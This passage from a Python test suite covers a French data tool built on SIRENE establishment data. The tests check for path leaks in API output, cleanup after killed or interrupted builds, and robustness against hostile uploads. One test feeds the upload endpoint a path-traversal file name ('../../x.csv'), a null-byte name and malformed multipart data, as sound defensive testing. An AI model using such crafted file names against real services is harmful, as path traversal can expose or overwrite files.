        "GeolocalisationEtablissement_Sirene_pour_etudes_statistiques_utf8.csv"}
    for url in ("/api/contexte", "/api/indicateurs/FR", "/api/indicateurs/DEP:93"):
        r = client.get(url)
        assert r.status_code == 200 and racine not in r.text and "/tmp/" not in r.text, url
    site = tmp_path / "site"
    _publier(bonne, site)
    for f in site.rglob("*.json"):
        assert racine not in f.read_text("utf-8"), f


def test_publier_nettoie_les_restes_d_une_publication_tuee(bonne, tmp_path):
    sortie = tmp_path / "site"
    mort = tmp_path / ".site.tmp-999999999"       # a publication killed (dead pid)
    (mort / "donnees").mkdir(parents=True)
    (mort / "donnees" / "x.json").write_text("{}")
    vivant = tmp_path / f".site.tmp-{os.getppid()}"  # a live process's: left alone
    vivant.mkdir()
    etranger = tmp_path / ".site.tmp-a-moi"          # not a pid: not ours
    etranger.mkdir()
    _publier(bonne, sortie)
    assert not mort.exists() and vivant.exists() and etranger.exists()
    assert (sortie / "index.html").exists()


def test_televersements_hostiles_sans_erreur_interne(client):
    csv_ok = b"nom,lon,lat\nx,2.35,48.85\n"
    for nom in ("a" * 300 + ".csv", "é" * 200 + ".csv", "a\x00b.csv", "../../x.csv"):
        r = client.post("/api/localiser", files={"fichier": (nom, csv_ok)})
        assert r.status_code == 200, (nom, r.text)
        assert r.text.splitlines()[1].startswith("x,2.35,48.85")
    r = client.post("/api/localiser", files={"fichier": ("donnees.csv", b"")})
    assert r.status_code == 400 and r.json()["erreur"].startswith("donnees.csv : fichier vide")
    r = client.post("/api/localiser", content=b"n'importe quoi",
                    headers={"content-type": "multipart/form-data; boundary=xx"})
    assert r.status_code == 400 and "multipart mal formé" in r.json()["erreur"]
    r = client.post("/api/localiser", files={"fichier": ("c.xlsx", b"PK\x03\x04tronque")})
    assert r.status_code == 400 and "n'est pas un classeur Excel lisible" in r.json()["erreur"]


def test_sigterm_pendant_une_construction_nettoie_tout(registre, bonne, tmp_path):
    b = copie(bonne, tmp_path / "term")
    avant = etat(b)
    p = subprocess.Popen(
        [str(ESSQPV), "construire", "-e", registre["etab"], "-u", registre["ul"], "-g",
         registre["geo"], "-m", M, "-b", b], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
        text=True, env={**os.environ, "ESSQPV_ARRET_TEST": "base_temporaire_ecrite:pause"})
    _attendre_arret(p)
    assert (b.parent / f"obs.duckdb.tmp-{p.pid}").exists()
    p.send_signal(signal.SIGTERM)
    p.send_signal(signal.SIGCONT)
    _, err = p.communicate(timeout=60)
    assert p.returncode == 143 and "Arrêté (SIGTERM)" in plat(err)
    assert etat(b) == avant
    assert sorted(x.name for x in b.parent.iterdir()) == [
        "obs.duckdb", "obs.duckdb.rejets", "obs.duckdb.travail"]  # no lock, no temporary
    assert [x.name for x in b.with_name("obs.duckdb.rejets").iterdir()] == [M]
